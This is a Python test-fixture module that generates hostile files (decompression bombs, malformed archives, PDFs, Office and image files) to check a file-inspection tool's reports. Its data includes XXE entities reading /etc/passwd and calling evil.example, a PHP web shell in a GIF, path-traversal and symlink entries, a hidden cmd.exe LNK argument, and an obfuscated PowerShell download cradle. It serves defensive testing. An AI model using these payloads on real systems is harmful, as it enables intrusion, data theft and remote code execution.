"""The hostile files: what each is, and what an honest answer says of it."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from typing import Any

from tests.unit.tools.files import makers as make

MIB = 1024**2


@dataclass(frozen=True, kw_only=True)
class Hostile:
    """One file. `facts` must be reported so; `said` must occur among reasons, notes or what was not read."""

    name: str
    make: Callable[[], bytes]
    facts: Mapping[str, Any] = field(default_factory=dict)
    said: str = ""

    def __str__(self) -> str:
        return self.name


def _ratio() -> bytes:
    return make.zipped({"zeros.bin": bytes(256 * MIB)})


def _many_ratio() -> bytes:
    inner = make.deflated(bytes(24 * MIB))
    return make.raw_zip([{"name": b"z%d" % i, "data": inner, "method": 8, "size": 24 * MIB} for i in range(200)])


def _overlapping() -> bytes:
    """Every entry of the directory points to the same bytes (Fifield)."""
    kernel = make.deflated(bytes(8 * MIB))
    first: dict[str, int | bytes] = {"name": b"k", "data": kernel, "method": 8, "size": 8 * MIB}
    return make.raw_zip([first, *({**first, "name": b"k", "offset": 0} for _ in range(15_000))])


def _entries() -> bytes:
    return make.raw_zip([{"name": b"%06d" % i} for i in range(150_000)], count=0xFFFF)


def _false_size() -> bytes:
    return make.raw_zip([{"name": b"a.txt", "data": make.deflated(bytes(40 * MIB)), "method": 8, "size": 10}])


def _nested(depth: int, width: int) -> bytes:
    """42.zip: archives in archives in archives."""
    content = make.zipped({"zeros": bytes(64 * MIB)})
    for _ in range(depth):
        content = make.zipped({f"lib {i}.zip": content for i in range(width)})
    return content


def _quine() -> bytes:
    """A member that reaches over the list of members, so that unpacking it gives the archive again."""
    size = 4096
    entry: dict[str, int | bytes] = {"name": b"r.zip", "offset": 0, "packed": size, "size": size}
    header = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 0, 0, size, size, 5, 0) + b"r.zip"
    return make.raw_zip([entry], prefix=header.ljust(size, b"\0"))


def _gzip_tower() -> bytes:
    content = bytes(64 * MIB)
    for _ in range(8):
        packer = zlib.compressobj(9, zlib.DEFLATED, 31)
        content = packer.compress(content) + packer.flush()
    return content


def _bzip2_bomb() -> bytes:
    import bz2

    return bz2.compress(bytes(300 * MIB), 9)


def _xz_bomb() -> bytes:
    import lzma

    return lzma.compress(bytes(200 * MIB), preset=1)


def _xz_dictionary() -> bytes:
    """An old LZMA stream that asks for a dictionary of 4 GiB."""
    return make.raw_zip(
        [{"name": b"a", "method": 14, "data": b"\x09\x14\x05\x00\x5d\xff\xff\xff\xff" + bytes(100), "size": 9}]
    )


def _zip64_lies() -> bytes:
    plain = bytearray(make.zipped({"a.txt": b"hello"}))
    end = plain.rindex(b"PK\x05\x06")
    wide = struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, 2**40, 2**40, 2**62, 2**62)
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, end, 1)
    return bytes(plain[:end] + wide + locator + plain[end:])


def _tar_claims() -> bytes:
    plain = bytearray(make.tarred({"big.bin": b"x"}))
    plain[124:136] = b"77777777777\0"
    plain[148:156] = b" " * 8
    plain[148:156] = b"%06o\0 " % sum(plain[:512])
    return bytes(plain)


def _tar_names() -> bytes:
    """A thousand headers that say the name of the next header."""
    plain = make.tarred({"a": b"x"})
    header = bytearray(plain[:512])
    header[156:157], header[124:136] = b"L", b"00000000002\0"
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\0 " % sum(header)
    return (bytes(header) + b"a\0".ljust(512, b"\0")) * 15_000 + plain


def _pdf_streams() -> bytes:
    bomb = zlib.compress(bytes(30 * MIB), 9)
    inner = b"<</Type/Catalog/Pages 2 0 R>>"
    return make.pdf(inner, *(make.stream(b"/Type/ObjStm/Filter/FlateDecode", bomb) for _ in range(40)))


def _pdf_filters() -> bytes:
    data = bytes(20 * MIB)
    for _ in range(3):
        data = zlib.compress(data, 9)
    kind = b"/Type/EmbeddedFile/Filter[/FlateDecode/FlateDecode/FlateDecode]"
    return make.pdf(b"<</Type/Catalog/Names<</EmbeddedFiles 2 0 R>>>>", make.stream(kind, data))


def _pdf_circle() -> bytes:
    return make.pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 9999999>>", b"3 0 R")


def _pdf_deep() -> bytes:
    return make.pdf(b"<</Type/Catalog/A " + b"[" * 60_000 + b"]" * 60_000 + b">>")


def _rtf_objects() -> bytes:
    hexed = (b"0105000002000000" + b"0b000000" + b"Equation.3\0".hex().encode() + bytes(8).hex().encode()).ljust(
        4000, b"0"
    )
    return b"{\\rtf1" + b"".join(b"{\\object\\objupdate{\\*\\objdata " + hexed + b"}}" for _ in range(2000)) + b"}"


def _rtf_braces() -> bytes:
    return b"{\\rtf1\\objdata" + b"{" * (8 * MIB)


def _ole_loop() -> bytes:
    """The allocation table leads back to its own start, the directory to itself."""
    plain = bytearray(make.macro_document())
    plain[512 : 512 + 512] = struct.pack("<128I", *([1, 1, 2, 3, *range(4, 128)][:128]))
    return bytes(plain)


def _ole_sizes() -> bytes:
    plain = bytearray(make.macro_document())
    for at in range(1024, len(plain) - 127, 128):
        if plain[at + 66] == 2:
            plain[at + 120 : at + 128] = struct.pack("<Q", 2**40)
    return bytes(plain)


def _vba_bomb() -> bytes:
    """Chunks of nine bytes that unpack to four thousand, over and over."""
    first = make.vba('Attribute VB_Name = "a"\r\n' + "x" * 10)
    chunk = struct.pack("<H", 0xB000 | 3) + b"\x02a\xff\x0f"
    return make.ole({"VBA/dir": b"\1", "VBA/_VBA_PROJECT": bytes(30), "VBA/m": first + chunk * 100_000})


def _docx_entities() -> bytes:
    laughs = b'<!DOCTYPE a [<!ENTITY a0 "lol">' + b"".join(
        b'<!ENTITY a%d "%s">' % (i, b"&a%d;" % (i - 1) * 10) for i in range(1, 10)
    )
    return make.zipped(
        {"[Content_Types].xml": b"<T/>", "word/document.xml": laughs + b"]><w:document>&a9;</w:document>"}
    )


def _jar_of_dots() -> bytes:
    return make.zipped({"../" * 40 + "etc/cron.d/x": b"x", "C:\\Windows\\a.exe": b"MZ", "ok.txt": b"x"})


def _strange_names() -> bytes:
    names = [
        b"a\x00.exe",
        b"\xff\xfe\xfd",
        b"\xed\xa0\x80.txt",
        "\u202egpj.exe".encode(),
        b"x" * 60_000,
        b"",
        b"a//b",
        b"#3",
    ]
    return make.raw_zip([{"name": name, "flags": 0x800} for name in names])


def _random(length: int, head: bytes) -> bytes:
    import random

    return head + random.Random(7).randbytes(length)


ARCHIVES = (
    Hostile(name="ratio.zip", make=_ratio, facts={"bomb": True}, said="a bomb"),
    Hostile(name="many.zip", make=_many_ratio, facts={"bomb": True}, said="not unpacked"),
    Hostile(name="overlap.zip", make=_overlapping, facts={"bomb": True}, said="share their bytes"),
    Hostile(name="entries.zip", make=_entries, facts={"complete": False}, said="20,000"),
    Hostile(name="false-size.zip", make=_false_size, facts={"damaged": True}, said="holds more than"),
    Hostile(name="42.zip", make=lambda: _nested(4, 6), facts={"bomb": True}, said="bomb"),
    Hostile(name="deep.zip", make=lambda: _nested(30, 1), facts={"bomb": True}, said="nested deeper"),
    Hostile(name="quine.zip", make=_quine, facts={"bomb": True}, said="bomb"),
    Hostile(name="tower.gz", make=_gzip_tower, facts={"bomb": True}, said="nested deeper"),
    Hostile(name="zeros.bz2", make=_bzip2_bomb, facts={"bomb": True}, said="first 8 MiB"),
    Hostile(name="zeros.xz", make=_xz_bomb, facts={"bomb": True}, said="first 8 MiB"),
    Hostile(name="dictionary.zip", make=_xz_dictionary, facts={"complete": False}, said="too much memory"),
    Hostile(name="zip64.zip", make=_zip64_lies, facts={"damaged": True}),
    Hostile(name="no-directory.zip", make=lambda: make.zipped({"run.js": b"x" * 500})[:50], facts={"damaged": True}),
    Hostile(name="wrong-count.zip", make=lambda: make.raw_zip([{"name": b"a.js"}], count=9), facts={"damaged": True}),
    Hostile(name="outside.zip", make=lambda: make.raw_zip([{"name": b"a.js"}, {"name": b"b.js", "offset": 2**31}]), facts={"damaged": True}),
    Hostile(name="password.zip", make=lambda: make.raw_zip([{"name": b"a.exe", "flags": 1, "data": b"?" * 50}]),
            facts={"encrypted": True}, said="password"),
    Hostile(name="method.zip", make=lambda: make.raw_zip([{"name": b"a", "method": 77, "data": b"?"}]),
            facts={"complete": False}, said="method 77"),
    Hostile(name="dots.zip", make=_jar_of_dots, facts={"path_traversal": True}, said="outside the chosen folder"),
    Hostile(name="link.zip", make=lambda: make.raw_zip([{"name": b"l", "data": b"/etc/shadow", "mode": 0o120777}]),
            facts={"path_traversal": True}),
    Hostile(name="names.zip", make=_strange_names, facts={"risky": True}),
    Hostile(name="claims.tar", make=_tar_claims, facts={"damaged": True}, said="claims"),
    Hostile(name="longnames.tar", make=_tar_names, facts={"members": 1}),
    Hostile(name="broken.tar", make=lambda: make.tarred({"a": b"x"})[:700], facts={"damaged": False}),
    Hostile(name="loop.iso", make=lambda: make.iso({"A.JS;1": b"x"}, loop=True), facts={"damaged": True}),
    Hostile(name="self.iso", make=lambda: make.iso({"A.ISO;1": b""}, whole=True), facts={"bomb": True}, said="holds itself"),
    Hostile(name="broken.iso", make=lambda: make.iso({"A.JS;1": b"x"})[: 17 * 2048], facts={"damaged": True}),
    Hostile(name="headers.rar", make=lambda: b"Rar!\x1a\x07\x00" + struct.pack("<HBHH", 0, 0x74, 0, 7) * 300_000,
            facts={"complete": False}, said="not unpacked"),
    Hostile(name="vint.rar", make=lambda: b"Rar!\x1a\x07\x01\x00" + b"\xff" * 100_000, facts={"damaged": True}),
    Hostile(name="header.7z", make=lambda: b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(4) + struct.pack("<QQ", 2**60, 2**60) + bytes(40),
            facts={"damaged": True}, said="header"),
    Hostile(name="names.7z", make=lambda: b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(4) + struct.pack("<QQ", 0, 3 * MIB) + bytes(4)
            + b"\x11" * (3 * MIB), facts={"complete": False}),
    Hostile(name="files.cab", make=lambda: b"MSCF".ljust(16, b"\0") + struct.pack("<I", 16) + bytes(8) + b"\xff\xff" + b"A" * 99,
            facts={"damaged": True}),
)  # fmt: skip
DOCUMENTS = (
    Hostile(name="streams.pdf", make=_pdf_streams, facts={"type": "pdf", "complete": False}, said="more parts"),
    Hostile(name="filters.pdf", make=_pdf_filters, facts={"embedded_objects": 1}),
    Hostile(name="circle.pdf", make=_pdf_circle, facts={"type": "pdf"}),
    Hostile(name="deep.pdf", make=_pdf_deep, facts={"type": "pdf"}),
    Hostile(name="uri.pdf", make=lambda: b"%PDF-1.7\n" + b"/URI(" * MIB, facts={"damaged": True}),
    Hostile(name="launch.pdf", make=lambda: b"%PDF-1.7\n" + b"/Launch /#4a#53 " * MIB, facts={"pdf_launch": True}),
    Hostile(name="cut.pdf", make=lambda: make.pdf(b"<</Type/Catalog/OpenAction<</S/JavaScript/JS(x)>>>>")[:80],
            facts={"pdf_javascript": True, "damaged": True}),
    Hostile(name="streams-without-end.pdf", make=lambda: b"%PDF-1.7\n" + b"stream\n" * 2 * MIB, facts={"type": "pdf"}),
    Hostile(name="objects.rtf", make=_rtf_objects, facts={"type": "rtf"}, said="equation editor"),
    Hostile(name="braces.rtf", make=_rtf_braces, facts={"type": "rtf"}),
    Hostile(name="loop.doc", make=_ole_loop, facts={"damaged": True}),
    Hostile(name="sizes.doc", make=_ole_sizes, facts={"type": "doc"}),
    Hostile(name="header.doc", make=lambda: bytes.fromhex("d0cf11e0a1b11ae1") + b"\xff" * 2000, facts={"complete": False}),
    Hostile(name="random.xls", make=lambda: _random(2 * MIB, make.ole({"Workbook": b"x"})[:512]), facts={"damaged": True}),
    Hostile(name="vba.doc", make=_vba_bomb, facts={"macros": True}),
    Hostile(name="laughs.docx", make=_docx_entities, facts={"entities": True}, said="entities"),
    Hostile(name="xxe.xml", make=lambda: b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
            facts={"entities": True}),
    Hostile(name="xxe.svg", make=lambda: b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "http://evil.example/x">]><svg>&x;</svg>',
            facts={"entities": True}),
    Hostile(name="arguments.lnk", make=lambda: make.lnk(" " * 300 + "/c calc", target="cmd.exe"), said="out of sight"),
    Hostile(name="cut.lnk", make=lambda: make.lnk("x" * 500)[:200], facts={"damaged": True}),
    Hostile(name="lists.lnk", make=lambda: make.lnk()[:20] + struct.pack("<I", 0xFF) + b"\xff" * 200_000,
            facts={"damaged": True}),
    Hostile(name="huge.png", make=lambda: make.png(2**31 - 1, 2**31 - 1), facts={"bomb": True}, said="bomb"),
    Hostile(name="huge.gif", make=lambda: b"GIF89a\xff\xff\xff\xff" + bytes(20), facts={"bomb": True, "width": 65535}),
    Hostile(name="segments.jpg", make=lambda: b"\xff\xd8" + b"\xff\xe0\x00\x02" * MIB, facts={"type": "jpeg"}),
    Hostile(name="code.gif", make=lambda: b"GIF89a\x01\x00\x01\x00" + b"<?php system($_GET[0]);?>", facts={"polyglot": True}),
    Hostile(name="archive.jpg", make=lambda: b"\xff\xd8\xff\xe0\x00\x04ab\xff\xd9" + make.zipped({"a.exe": b"MZ"}),
            facts={"polyglot": True}),
    Hostile(name="sections.exe", make=lambda: make.pe(0xFFFF), facts={"program": "windows"}),
    Hostile(name="header.exe", make=lambda: b"MZ".ljust(60, b"\0") + b"\xff\xff\xff\x7f" + bytes(90), facts={"damaged": True}),
    Hostile(name="script.ps1", make=lambda: b"`" * 300_000 + b"[char]" * 50_000 + b"('a'+'b')" * 50_000, facts={"complete": False}),
    Hostile(name="layers.js", make=lambda: _base64_tower(), facts={"type": "script"}),
    Hostile(name="page.html", make=lambda: b"<html>" + b"<a href=" * 200_000 + b"<div>" * 200_000, facts={"type": "html"}),
    Hostile(name="nul.txt", make=lambda: bytes(25 * MIB), facts={"type": "data"}),
    Hostile(name="halves.txt", make=lambda: b"\xff\xfe" + b"\x00\xd8" * 100_000, facts={"type": "text"}),
    Hostile(name="onenote.one", make=lambda: bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + (
        bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + b"\xff" * 20) * 20_000, facts={"type": "onenote"}),
    Hostile(name="random.bin", make=lambda: _random(24 * MIB, b""), facts={"type": "data"}),
    Hostile(name="empty.docx", make=lambda: b"", facts={"type": "empty"}),
)  # fmt: skip


def _base64_tower() -> bytes:
    import base64

    text = b"powershell iwr http://evil.example/a"
    for _ in range(18):
        text = b"var a = '" + base64.b64encode(text) + b"'; eval(atob(a))"
    return text
